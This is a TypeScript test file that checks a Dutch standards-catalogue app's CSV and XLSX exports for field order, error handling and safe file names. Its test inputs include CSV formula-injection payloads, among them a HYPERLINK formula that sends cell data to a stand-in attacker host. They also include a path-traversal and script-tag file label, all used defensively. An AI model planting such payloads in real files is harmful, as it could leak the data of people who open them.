/**
 * The catalogue export: exactly the standards asked for, in that order, as CSV (through csv.ts:
 * ';', BOM, formulas neutralised, read back with csv-parse) and as XLSX (typed cells, read back with
 * read-excel-file). Hostile cell contents are put straight into the database, as a careless import
 * or a hand-edited workspace could, because the API itself trims leading whitespace.
 */
import { parse } from 'csv-parse/sync';
import readXlsxFile from 'read-excel-file/node';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Standard, StandardSummary } from '../../common/catalogue.js';
import type { BinaryExportFile } from '../../common/lists.js';
import type { ExportFile } from '../../common/tags.js';
import { invokeApiAsync } from '../../electron/api.js';
import { catalogueFileName } from '../../electron/services/catalogue-export.js';
import { readCsv } from '../../electron/services/csv.js';
import { unzip } from '../helpers/lists.js';
import { seededWorkspace, totalChanges, type TestWorkspace } from '../helpers/test-db.js';

const HEADERS = [
  'Id',
  'Catalogusnummer',
  'Titel',
  'Korte titel',
  'Type',
  'Status',
  'Eigenaar (zoals vermeld)',
  'Organisaties',
  'Subsectoren',
  'Onderwerp',
  'Doelgroep gebruikers',
  'Kennisbasis',
  'Jaar van publicatie',
  'Jaar van herziening',
  'Webadres',
  'Betrouwbaarheid',
  'Teruggetrokken op',
  'Reden teruggetrokken',
  'Bron',
  'Notities',
  'Laatst gewijzigd',
];

/** Values a spreadsheet would take for formulas (or that start with a line break). */
const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', '+1', '-2', '@x', '\tTAB=1+1', '\rCR=1+1', '\nLF=1+1', '=1+1;2', '"=quoted"'];

let ws: TestWorkspace;
let ids: string[];

beforeEach(() => {
  ws = seededWorkspace();
  ids = ws.ok<StandardSummary[]>('standards.list', {}).map((s) => s.id);
  // One hostile value per text column of a few standards, written as data from anywhere would be.
  const set = ws.db.prepare('UPDATE standard SET title = ?, short_title = ?, owner_text = ?, topic = ?, notes = ?, target_users = ? WHERE id = ?');
  HOSTILE.forEach((value, i) => set.run(`${value} titel`, value, value, value, value, value, ids[i] as string));
});
afterEach(() => ws.cleanup());

const exportCsv = (args: unknown) => ws.ok<ExportFile>('catalogue.exportCsv', args);
async function exportXlsx(args: unknown): Promise<BinaryExportFile> {
  const response = await invokeApiAsync(ws.api, 'catalogue.exportXlsx', args);
  if (!response.ok) throw new Error(`${response.error.code}: ${response.error.message}`);
  return response.value as BinaryExportFile;
}

/** What a row must say for a standard, as text (CSV) or typed (XLSX). */
function expectedRow(s: Standard): Array<string | number | null> {
  const label = (kind: string, value: string) => ws.ok<Record<string, Array<{ value: string; label: string }>>>('vocabularies.all')[kind]?.find((e) => e.value === value)?.label ?? value;
  return [
    s.id,
    s.catalogueId,
    s.title,
    s.shortTitle,
    label('type', s.type),
    { concept: 'Concept', vastgesteld: 'Vastgesteld', in_herziening: 'In herziening', vervallen: 'Vervallen', onbekend: 'Onbekend' }[s.status],
    s.ownerText,
    s.owners.length ? s.owners.map((o) => `${o.abbreviation ?? o.name} (${o.role})`).join('; ') : null,
    s.subsectors.length ? s.subsectors.map((v) => label('subsector', v)).join('; ') : null,
    s.topic,
    s.targetUsers,
    s.knowledgeBasis.length ? s.knowledgeBasis.map((k) => k[0]!.toUpperCase() + k.slice(1)).join('; ') : null,
    s.yearPublished,
    s.yearRevised,
    s.url,
    s.confidence === 'verified' ? 'Geverifieerd' : 'Te controleren',
    s.retiredAt?.slice(0, 10) ?? null,
    s.retiredReason,
    s.source,
    s.notes,
    s.updatedAt.slice(0, 10),
  ];
}

describe('catalogue.exportCsv', () => {
  it('exports the given standards in the given order, every field, and reads back exactly', () => {
    const chosen = [ids[20], ...ids.slice(0, HOSTILE.length), ids[3]] as string[]; // ids[3] twice: once
    const before = totalChanges(ws.db);
    const file = exportCsv({ ids: chosen });
    expect(totalChanges(ws.db)).toBe(before); // an export writes nothing
    expect(file.mimeType).toBe('text/csv;charset=utf-8');
    expect(file.fileName).toMatch(/^kwaliteitsstandaarden-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(file.content.startsWith('\uFEFFId;Catalogusnummer;Titel;')).toBe(true);

    const rows = readCsv(file.content);
    expect(rows[0]).toEqual(HEADERS);
    const unique = [...new Set(chosen)];
    expect(rows.slice(1).map((r) => r[0])).toEqual(unique);
    unique.forEach((id, i) => {
      const expected = expectedRow(ws.ok<Standard>('standards.get', { id })).map((v) => (v === null ? '' : String(v)));
      expect(rows[i + 1]).toEqual(expected);
    });
  });

  it('neutralises every cell a spreadsheet would run as a formula, and only those', () => {
    const file = exportCsv({ ids: ids.slice(0, HOSTILE.length + 1) });
    // Raw cells, as a spreadsheet sees them (csv-parse without undoing the neutralising).
    const raw = parse(file.content, { bom: true, delimiter: ';', relax_column_count: false }) as string[][];
    expect(raw.length).toBe(HOSTILE.length + 2);
    for (const row of raw) {
      expect(row).toHaveLength(HEADERS.length);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }
    const topic = HEADERS.indexOf('Onderwerp');
    expect(raw.slice(1, HOSTILE.length + 1).map((r) => r[topic])).toEqual(HOSTILE.map((v) => (/^[=+\-@\t\r\n]/.test(v) ? `'${v}` : v)));
    // Years stay numbers (no apostrophe) and harmless text is left alone.
    const year = HEADERS.indexOf('Jaar van publicatie');
    const plain = raw[HOSTILE.length + 1] as string[];
    expect(plain[year]).toMatch(/^(\d{4})?$/);
    expect(plain[HEADERS.indexOf('Titel')]).toBe(ws.ok<Standard>('standards.get', { id: ids[HOSTILE.length] }).title);
  });

  it('names the file after the search, with only safe characters', () => {
    expect(exportCsv({ ids: ids.slice(0, 1), label: 'ADHD medicatie' }).fileName).toMatch(/^kwaliteitsstandaarden-adhd-medicatie-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(exportCsv({ ids: ids.slice(0, 1), label: '../../etc/passwd\u0000 <script>' }).fileName).toMatch(/^kwaliteitsstandaarden-etc-passwd-script-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(catalogueFileName('', 'xlsx', new Date(2026, 0, 5))).toBe('kwaliteitsstandaarden-2026-01-05.xlsx');
    expect(catalogueFileName('Coördinatie & zorg', 'csv', new Date(2026, 0, 5))).toBe('kwaliteitsstandaarden-coordinatie-en-zorg-2026-01-05.csv');
  });

  it('refuses an unknown id, an empty list and bad input in Dutch, and writes nothing', () => {
    const before = totalChanges(ws.db);
    expect(ws.call('catalogue.exportCsv', { ids: [ids[0], 'bestaat-niet'] })).toMatchObject({ ok: false, error: { code: 'NIET_GEVONDEN', message: expect.stringContaining('bestaat-niet') } });
    expect(ws.call('catalogue.exportCsv', { ids: [] })).toMatchObject({ ok: false, error: { code: 'ONGELDIGE_INVOER', message: expect.stringMatching(/geen standaarden/) } });
    expect(ws.call('catalogue.exportCsv', {})).toMatchObject({ ok: false, error: { code: 'ONGELDIGE_INVOER' } });
    expect(ws.call('catalogue.exportCsv', { ids: [ids[0]], filter: 'x' })).toMatchObject({ ok: false, error: { code: 'ONGELDIGE_INVOER' } });
    expect(ws.call('catalogue.exportCsv', { ids: [42] })).toMatchObject({ ok: false, error: { code: 'ONGELDIGE_INVOER' } });
    expect(totalChanges(ws.db)).toBe(before);
  });

  it('exports all 154 standards of the seeded catalogue', () => {
    const rows = readCsv(exportCsv({ ids }).content);
    expect(rows).toHaveLength(ids.length + 1);
    expect(ids.length).toBe(154);
  });
});

describe('catalogue.exportXlsx', () => {
  it('writes a workbook with a bold, frozen Dutch header row, column widths and typed cells that reads back exactly', async () => {
    const chosen = ids.slice(0, HOSTILE.length + 3);
    const file = await exportXlsx({ ids: chosen, label: 'hostile' });
    expect(file.mimeType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(file.fileName).toMatch(/^kwaliteitsstandaarden-hostile-\d{4}-\d{2}-\d{2}\.xlsx$/);
    const bytes = Buffer.from(file.contentBase64, 'base64');

    // trim: false, or the reader would strip the leading tab/CR/LF that the file does keep.
    const [sheet] = await readXlsxFile(bytes, { trim: false });
    expect(sheet?.sheet).toBe('Kwaliteitsstandaarden');
    const data = sheet?.data ?? [];
    expect(data[0]).toEqual(HEADERS);
    expect(data).toHaveLength(chosen.length + 1);
    chosen.forEach((id, i) => {
      const expected = expectedRow(ws.ok<Standard>('standards.get', { id }));
      // Text comes back as the very same string (no apostrophe, no formula); years as numbers.
      expect(data[i + 1]).toEqual(expected);
    });
    const withYear = chosen.map((id) => ws.ok<Standard>('standards.get', { id })).findIndex((s) => s.yearPublished !== null);
    expect(withYear).toBeGreaterThanOrEqual(0);
    expect(typeof data[withYear + 1]?.[HEADERS.indexOf('Jaar van publicatie')]).toBe('number');

    // The sheet XML itself: no formula anywhere, widths per column, the first row frozen.
    const xml = unzip(bytes).get('xl/worksheets/sheet1.xml')?.toString('utf8') ?? '';
    expect(xml).not.toContain('<f>');
    expect((xml.match(/<col /g) ?? []).length).toBe(HEADERS.length);
    expect(xml).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
    expect(unzip(bytes).get('xl/styles.xml')?.toString('utf8')).toContain('<b/>');
  });

  it('refuses an unknown id in Dutch through the async door as well', async () => {
    const response = await invokeApiAsync(ws.api, 'catalogue.exportXlsx', { ids: ['bestaat-niet'] });
    expect(response).toMatchObject({ ok: false, error: { code: 'NIET_GEVONDEN' } });
  });
});
